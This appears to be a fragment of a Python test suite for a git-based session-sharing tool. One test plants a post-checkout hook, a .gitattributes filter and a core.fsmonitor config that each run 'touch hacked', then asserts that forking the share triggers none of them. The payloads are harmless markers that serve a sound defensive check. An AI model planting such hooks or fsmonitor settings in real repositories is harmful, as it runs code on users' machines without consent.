    trap = b"#!/bin/sh\ntouch hacked\n"

    def change(entries):
        entries[b"hooks"] = (
            "40000",
            put_files(team.remote, {"post-checkout": ("100755", put(team.remote, "blob", trap))}),
        )
        entries[b".gitattributes"] = ("100644", put(team.remote, "blob", b"* filter=x\n"))
        entries[b"config"] = ("100644", put(team.remote, "blob", b"[core]\n\tfsmonitor = touch hacked\n"))

    new, told = _session_with(team, change)
    team.forge_bundles(member, [(_bundle(team, [(BRANCH, new)], told), new, None)])

    forked = team.bob.shares.fork(member.share_url)

    assert len(team.bob.store.load(forked.id).messages) == 3
    assert not list(team.folder.rglob("hacked"))
    assert not (team.bob.path / "hooks" / "post-checkout").exists()


def test_a_share_that_was_deleted_between_looks_is_gone(tmp_path, rules):
    """ShareNotFound, and what was taken before stays."""
    team = gather(tmp_path, rules)
    share = team.share()
    forked = team.bob.shares.fork(share.share_url)
    git(team.remote, "update-ref", "-d", team.ann.record(share).remote_ref)
    with pytest.raises(ShareNotFound):
        team.bob.shares.get_share(share.share_url)
    assert team.bob.store.exists(forked.id)
    assert subprocess.run(["git", "-C", team.bob.path, "fsck"], capture_output=True, check=False).returncode == 0
    assert not [name for name in refs(team.bob.path) if "shares" in name]
